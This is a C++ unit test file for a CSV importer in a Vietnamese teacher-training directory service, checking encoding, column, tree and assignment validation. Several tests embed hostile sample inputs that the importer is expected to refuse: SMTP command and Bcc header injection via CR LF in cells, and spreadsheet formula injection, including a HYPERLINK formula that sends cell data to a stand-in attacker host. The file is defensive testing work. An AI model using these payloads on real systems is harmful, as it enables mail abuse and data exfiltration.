#include "services/directory/domain/import.h"

#include "absl/strings/str_cat.h"
#include "services/directory/testing/fake_directory.h"

namespace bdtx::directory {
namespace {

class ImportTest : public ::testing::Test {
 protected:
  void SetUp() override { LoadSampleProvince(dir_); }

  absl::Status ImportError(bdtx::v1::ImportKind kind, const std::string& file,
                           const std::string& csv) {
    auto plan = PlanImport(kind, file, csv, dir_);
    EXPECT_FALSE(plan.ok()) << "import of " << file << " should fail";
    return plan.status();
  }
  FakeDirectory dir_;
};

void ExpectMentions(const absl::Status& s, const std::string& text) {
  EXPECT_EQ(s.code(), absl::StatusCode::kInvalidArgument) << s;
  EXPECT_NE(s.message().find(text), std::string::npos) << s;
}

TEST_F(ImportTest, SampleProvinceImportsWithDiacriticsIntact) {
  EXPECT_EQ(dir_.units.size(), 14u);
  EXPECT_EQ(dir_.units["bp"].display_name(), "Sở GDĐT Bình Phước");
  EXPECT_EQ(dir_.units["thcsthpt-bp"].school_level(), bdtx::v1::LOWER_AND_UPPER_SECONDARY);
  EXPECT_EQ(dir_.people["gvcc-thcs"].display_name(), "Nguyễn Văn An");
  EXPECT_EQ(dir_.people["gvcc-thcs"].roles_size(), 2);
  EXPECT_EQ(RolesText(dir_.people["gvcc-thcs"]), "core_teacher;reporter");
}

TEST_F(ImportTest, BadEncodingIsReportedWithLineAndColumn) {
  // "Nguyễn" saved in a legacy 8-bit encoding instead of UTF-8.
  const std::string csv =
      "id,code,full_name,roles,home_unit_id,subject,level,email\n"
      "p1,,Ok Name,mass_teacher,thcs-tanphu,,,\n"
      "p2,,Nguy\xEAn,mass_teacher,thcs-tanphu,,,\n";
  ExpectMentions(ImportError(bdtx::v1::PEOPLE, "people.csv", csv),
                 "people.csv:3:3: không phải UTF-8 hợp lệ");
}

TEST_F(ImportTest, MissingColumnIsReportedOnTheHeaderLine) {
  ExpectMentions(
      ImportError(bdtx::v1::PEOPLE, "people.csv", "id,full_name,roles\np1,A,mass_teacher\n"),
      "people.csv:1:4: thiếu cột bắt buộc 'home_unit_id'");
}

TEST_F(ImportTest, UnknownUnitIsReportedAtItsCell) {
  const absl::Status s = ImportError(bdtx::v1::PEOPLE, "people.csv",
                                     "id,code,full_name,roles,home_unit_id,subject,level,email\n"
                                     "p1,,A,mass_teacher,thcs-tanphu,,,\n"
                                     "p2,,B,mass_teacher,nowhere,,,\n");
  ExpectMentions(s, "people.csv:3:5: không có đơn vị 'nowhere' (hãy nhập đơn vị trước)");
  ExpectMentions(s, "1 lỗi trong people.csv; chưa nhập gì");
}

TEST_F(ImportTest, DuplicatePersonNamesBothLines) {
  ExpectMentions(ImportError(bdtx::v1::PEOPLE, "people.csv",
                             "id,code,full_name,roles,home_unit_id,subject,level,email\n"
                             "p1,,A,mass_teacher,thcs-tanphu,,,\n"
                             "p2,,B,mass_teacher,thcs-tanphu,,,\n"
                             "p1,,C,mass_teacher,thcs-tanphu,,,\n"),
                 "people.csv:4:1: id người p1 bị trùng (đã có ở dòng 2)");
}

TEST_F(ImportTest, EveryErrorOfAFileIsListed) {
  const absl::Status s = ImportError(bdtx::v1::PEOPLE, "people.csv",
                                     "id,code,full_name,roles,home_unit_id,subject,level,email\n"
                                     "p1,,A,wizard,thcs-tanphu,,,\n"
                                     "p2,,,mass_teacher,thcs-tanphu,,,\n"
                                     "p3,,C,mass_teacher,thcs-tanphu,,XYZ,\n"
                                     "p4,,D,mass_teacher\n"
                                     "bad id,,E,mass_teacher,thcs-tanphu,,,\n"
                                     "p6,,F,principal,dx,,,\n");
  ExpectMentions(s, "6 lỗi trong people.csv");
  ExpectMentions(s, "people.csv:2:4: vai trò 'wizard' không có");
  ExpectMentions(s, "people.csv:3:3: họ tên (full_name) đang trống");
  ExpectMentions(s, "people.csv:4:7: cấp học 'XYZ'");
  ExpectMentions(s, "people.csv:5:5: dòng có 4 trường, dòng tiêu đề có 8");
  ExpectMentions(s, "people.csv:6:1: id 'bad id'");
  ExpectMentions(s, "people.csv:7:4: đơn vị của hiệu trưởng (PRINCIPAL) phải là trường học");
}

TEST_F(ImportTest, UnitTreeRules) {
  // A parent defined later in the same file is fine.
  FakeDirectory empty;
  auto plan = PlanImport(bdtx::v1::UNITS, "units.csv",
                         "id,code,name,kind,parent_id,level,university_kind\n"
                         "s1,,School,school,d1,THCS,\n"
                         "d1,,District,district,p1,,\n"
                         "p1,,Province,department,m,,\n"
                         "m,,Ministry,ministry,,,\n",
                         empty);
  ASSERT_TRUE(plan.ok()) << plan.status();
  EXPECT_EQ(plan->units.size(), 4u);

  const absl::Status s = ImportError(bdtx::v1::UNITS, "units.csv",
                                     "id,code,name,kind,parent_id,level,university_kind\n"
                                     "x1,,School,school,ghost,THCS,\n"
                                     "x2,,District,district,dx,,\n"
                                     "x3,,Thing,castle,bp,,\n"
                                     "x4,,School,school,dx,,\n"
                                     "x5,,Loop A,district,x6,,\n"
                                     "x6,,Loop B,department,x5,,\n");
  ExpectMentions(s, "units.csv:2:5: không có đơn vị cấp trên 'ghost'");
  ExpectMentions(s,
                 "units.csv:3:5: đơn vị loại district không thể trực thuộc đơn vị loại district");
  ExpectMentions(s, "units.csv:4:4: loại đơn vị 'castle' không có");
  ExpectMentions(s, "units.csv:5:6: cấp học ''");
  ExpectMentions(s, "bị vòng lặp");
}

TEST_F(ImportTest, AssignmentRules) {
  const absl::Status s = ImportError(bdtx::v1::ASSIGNMENTS, "assignments.csv",
                                     "year,module,kind,from_id,to_id\n"
                                     "2023,4,support,gv-1,gv-2\n"
                                     "2023,4,lecturer,gvcc-thcs,gv-1\n"
                                     "2023,12,support,gvcc-thcs,gv-1\n"
                                     "2023,4,support,gvcc-thcs,ghost\n"
                                     "2023,4,mentor,gvcc-thcs,gv-1\n"
                                     "2023,4,learner,no-class,gv-1\n");
  ExpectMentions(
      s, "assignments.csv:2:4: people/gv-1 không phải giáo viên hay cán bộ quản lý cốt cán");
  ExpectMentions(s, "assignments.csv:3:4: people/gvcc-thcs không phải giảng viên sư phạm chủ chốt");
  ExpectMentions(s, "assignments.csv:4:2: mô đun phải từ 1 đến 9, không phải 12");
  ExpectMentions(s, "assignments.csv:5:5: không có người 'ghost'");
  ExpectMentions(s, "assignments.csv:6:3: loại phân công 'mentor' không có");
  ExpectMentions(s, "assignments.csv:7:4: không có lớp 'no-class'");
}

TEST_F(ImportTest, SupportGroupAboveFiftyWarnsAndKeepsEveryone) {
  std::string people = "id,code,full_name,roles,home_unit_id,subject,level,email\n";
  std::string support = "year,module,kind,from_id,to_id\n";
  for (int i = 0; i < 55; ++i) {
    absl::StrAppend(&people, "m", i, ",,Học viên ", i, ",mass_teacher,thcs-tanphu,,,\n");
    absl::StrAppend(&support, "2023,4,support,gvcc-thcs,m", i, "\n");
  }
  dir_.Import(bdtx::v1::PEOPLE, people);
  auto plan = PlanImport(bdtx::v1::ASSIGNMENTS, "support.csv", support, dir_);
  ASSERT_TRUE(plan.ok()) << plan.status();
  EXPECT_EQ(plan->support.size(), 55u);
  ASSERT_EQ(plan->warnings.size(), 1u);
  // 2 colleagues already assigned + 55 new.
  EXPECT_NE(plan->warnings[0].find("people/gvcc-thcs hỗ trợ 57 đồng nghiệp"), std::string::npos)
      << plan->warnings[0];
  // Importing the same rows again does not count anyone twice.
  dir_.Import(bdtx::v1::ASSIGNMENTS, support);
  auto again = PlanImport(bdtx::v1::ASSIGNMENTS, "support.csv", support, dir_);
  ASSERT_TRUE(again.ok());
  ASSERT_EQ(again->warnings.size(), 1u);
  EXPECT_NE(again->warnings[0].find("hỗ trợ 57 đồng nghiệp"), std::string::npos)
      << again->warnings[0];
}

TEST_F(ImportTest, ClassesAndMembers) {
  dir_.Import(bdtx::v1::CLASSES,
              "id,code,name,year,module,unit_id\nc1,L01,Lớp THCS 01,2023,4,bp\n");
  dir_.Import(
      bdtx::v1::ASSIGNMENTS,
      "year,module,kind,from_id,to_id\n2023,4,learner,c1,gv-1\n2023,4,grader,c1,gvcc-thcs\n");
  EXPECT_EQ(dir_.classes["c1"].learners_size(), 1);
  EXPECT_EQ(dir_.classes["c1"].graders(0), "people/gvcc-thcs");
  const absl::Status s = ImportError(bdtx::v1::ASSIGNMENTS, "a.csv",
                                     "year,module,kind,from_id,to_id\n"
                                     "2023,5,learner,c1,gv-1\n"
                                     "2023,4,grader,c1,gv-2\n");
  ExpectMentions(s, "a.csv:2:1: classes/c1 là mô đun 4 năm 2023, không phải mô đun 5 năm 2023");
  ExpectMentions(s, "a.csv:3:5: people/gv-2 không chấm bài được");
}

TEST_F(ImportTest, EmailAddressesAreValidatedAndNothingIsImportedOnError) {
  const std::string header = "id,code,full_name,roles,home_unit_id,subject,level,email\n";
  ExpectMentions(
      ImportError(bdtx::v1::PEOPLE, "people.csv",
                  header + "p1,,Ok,mass_teacher,thcs-tanphu,,,an@thcs.example\n"
                           "p2,,Nguyễn Văn B,mass_teacher,thcs-tanphu,,,khong co email\n"),
      "people.csv:3:8: địa chỉ e-mail 'khong co email' không hợp lệ");
  // A quoted cell carrying CR LF and an SMTP command: refused at its line and column.
  const absl::Status injected =
      ImportError(bdtx::v1::PEOPLE, "people.csv",
                  header +
                      "gvsp-06,,GVSP Sáu,pedagogy_lecturer,dhsp,,,"
                      "\"gvsp-06@example.test>\r\nRCPT TO:<intruder@example.test\"\n");
  ExpectMentions(injected, "people.csv:2:8:");
  ExpectMentions(injected, "ký tự điều khiển");
  EXPECT_EQ(std::string(injected.message()).find("\r\nRCPT"), std::string::npos) << injected;
}

TEST_F(ImportTest, NamesAndOtherCellsAreOneLineOfBoundedLength) {
  const std::string header = "id,code,full_name,roles,home_unit_id,subject,level,email\n";
  // A quoted name carrying CR LF and a header (it would reach mail subjects and webhooks),
  // a tab, a C1 control (U+0085, NEL), and a 1 MB name: each refused at its cell.
  const absl::Status s = ImportError(
      bdtx::v1::PEOPLE, "people.csv",
      header + "p1,,\"Nguyễn Văn A\r\nBcc: intruder@example.test\",mass_teacher,thcs-tanphu,,,\n" +
          "p2,\"C\t2\",Trần B,mass_teacher,thcs-tanphu,,,\n" +
          "p3,,Lê C,mass_teacher,thcs-tanphu,\"Toán\xC2\x85\",,\n" + "p4,,\"" +
          std::string(1 << 20, 'A') + "\",mass_teacher,thcs-tanphu,,,\n");
  ExpectMentions(s, "people.csv:2:3: ô chứa ký tự điều khiển");
  ExpectMentions(s, "people.csv:4:2: ô chứa ký tự điều khiển");
  ExpectMentions(s, "people.csv:5:6: ô chứa ký tự điều khiển");
  ExpectMentions(s, "people.csv:6:3: ô dài 1048576 ký tự, tối đa 256");
  EXPECT_EQ(std::string(s.message()).find("Bcc:"), std::string::npos) << s;
  EXPECT_LT(s.message().size(), 2000u);  // the huge cell is not echoed back
  // Characters, not bytes: 256 Vietnamese letters (2-3 bytes each) are accepted.
  std::string name;
  for (int i = 0; i < 128; ++i) name += "Đặ";
  auto ok = PlanImport(bdtx::v1::PEOPLE, "people.csv",
                       header + "p5,," + name + ",mass_teacher,thcs-tanphu,,,\n", dir_);
  EXPECT_TRUE(ok.ok()) << ok.status();
  // A huge or multi-line column name is refused, not echoed in a warning.
  const absl::Status h = ImportError(bdtx::v1::PEOPLE, "people.csv",
                                     "id,full_name,roles,home_unit_id," + std::string(300000, 'x') +
                                         "\np6,A,mass_teacher,thcs-tanphu,1\n");
  ExpectMentions(h, "people.csv:1:5: ô dài 300000 ký tự");
  EXPECT_LT(h.message().size(), 2000u);
}

TEST_F(ImportTest, NamesThatExcelWouldRunAsFormulasAreRefused) {
  const std::string header = "id,code,full_name,roles,home_unit_id,subject,level,email\n";
  const absl::Status s = ImportError(
      bdtx::v1::PEOPLE, "people.csv",
      header +
          "p1,,\"=HYPERLINK(\"\"https://evil.example/?\"\"&H2,\"\"Nguyễn\"\")\",mass_teacher,"
          "thcs-tanphu,,,\n"
          "p2,+84,Trần B,mass_teacher,thcs-tanphu,,,\n"
          "p3,,Lê C,mass_teacher,thcs-tanphu, @SUM(1),,\n"
          "p4,,-2+3+cmd,mass_teacher,thcs-tanphu,,,\n");
  ExpectMentions(s, "people.csv:2:3: ô bắt đầu bằng dấu '='");
  ExpectMentions(s, "people.csv:3:2: ô bắt đầu bằng dấu '+'");
  ExpectMentions(s, "people.csv:4:6: ô bắt đầu bằng dấu '@'");
  ExpectMentions(s, "people.csv:5:3: ô bắt đầu bằng dấu '-'");
  // Units and classes too; a '-' or '=' inside a name is fine.
  ExpectMentions(ImportError(bdtx::v1::UNITS, "units.csv",
                             "id,name,kind,parent_id,university_kind\nu1,=1+1,university,,DHSP\n"),
                 "units.csv:2:2: ô bắt đầu bằng dấu '='");
  auto ok = PlanImport(bdtx::v1::PEOPLE, "people.csv",
                       header + "p5,,Nguyễn Văn A-B = C,mass_teacher,thcs-tanphu,,,\n", dir_);
  EXPECT_TRUE(ok.ok()) << ok.status();
}

TEST_F(ImportTest, SemicolonAndTabFilesAsExcelWritesThem) {
  auto semicolons =
      PlanImport(bdtx::v1::PEOPLE, "people.csv",
                 "id;code;full_name;roles;home_unit_id;subject;level;email\r\n"
                 "p1;;Nguyễn Văn A, con;mass_teacher;thcs-tanphu;Toán;THCS;a@x.example\r\n",
                 dir_);
  ASSERT_TRUE(semicolons.ok()) << semicolons.status();
  ASSERT_EQ(semicolons->people.size(), 1u);
  EXPECT_EQ(semicolons->people[0].display_name(), "Nguyễn Văn A, con");
  auto tabs = PlanImport(bdtx::v1::PEOPLE, "people.txt",
                         "id\tcode\tfull_name\troles\thome_unit_id\tsubject\tlevel\temail\n"
                         "p1\t\tNguyễn Văn A\tmass_teacher\tthcs-tanphu\t\t\t\n",
                         dir_);
  ASSERT_TRUE(tabs.ok()) << tabs.status();
  // Both in one header line: one error naming what was found, not four missing columns.
  const absl::Status mixed = ImportError(
      bdtx::v1::PEOPLE, "people.csv", "id;code;full_name;roles,home_unit_id,subject,level,email\n");
  ExpectMentions(mixed, "people.csv:1:1: dòng tiêu đề trộn lẫn ký tự phân cách");
  ExpectMentions(mixed, "4 dấu phẩy ','");
  ExpectMentions(mixed, "3 dấu chấm phẩy ';'");
  EXPECT_EQ(std::string(mixed.message()).find("thiếu cột bắt buộc"), std::string::npos);
}

TEST_F(ImportTest, NfdTextIsStoredNfcAndVietnameseKeywordsFoldCase) {
  // "Trường" typed NFD (ư = u + U+031B, ờ = o + U+031B + U+0300) and in capitals.
  const std::string nfd_truong = "Tru\xCC\x9Bo\xCC\x9B\xCC\x80ng";
  const std::string nfd_name = "Nguye\xCC\x82\xCC\x83n Thanh Ta\xCC\x82m";
  auto units = PlanImport(bdtx::v1::UNITS, "units.csv",
                          "ID,Code,Name,Kind,Parent_ID,Level,University_Kind\n"
                          "s1,,Trường A,TRƯỜNG,dx,thcs,\n"
                          "s2,,Trường B," +
                              nfd_truong +
                              ",dx,THCS,\n"
                              "d2,,Phòng X,PHÒNG,bp,,\n"
                              "u2,,Đại học Y,university,moet,,đhsp\n",
                          dir_);
  ASSERT_TRUE(units.ok()) << units.status();
  EXPECT_EQ(units->units[0].kind(), bdtx::v1::SCHOOL);
  EXPECT_EQ(units->units[1].kind(), bdtx::v1::SCHOOL);
  EXPECT_EQ(units->units[2].kind(), bdtx::v1::DISTRICT_OFFICE);
  EXPECT_EQ(units->units[3].university_kind(), bdtx::v1::PEDAGOGICAL_UNIVERSITY);
  auto people = PlanImport(bdtx::v1::PEOPLE, "people.csv",
                           "id,code,full_name,roles,home_unit_id,subject,level,email\n"
                           "p1,,\"" +
                               nfd_name + "\",Core_Teacher;REPORTER,thcs-tanphu,,thcs,\n",
                           dir_);
  ASSERT_TRUE(people.ok()) << people.status();
  EXPECT_EQ(people->people[0].display_name(), "Nguyễn Thanh Tâm");  // NFC
  EXPECT_EQ(people->people[0].roles_size(), 2);
  auto assignments =
      PlanImport(bdtx::v1::ASSIGNMENTS, "a.csv",
                 "YEAR,MODULE,KIND,FROM_ID,TO_ID\n2023,4,SUPPORT,gvcc-thcs,gv-1\n", dir_);
  ASSERT_TRUE(assignments.ok()) << assignments.status();
  EXPECT_EQ(assignments->support.size(), 1u);
}

}  // namespace
}  // namespace bdtx::directory
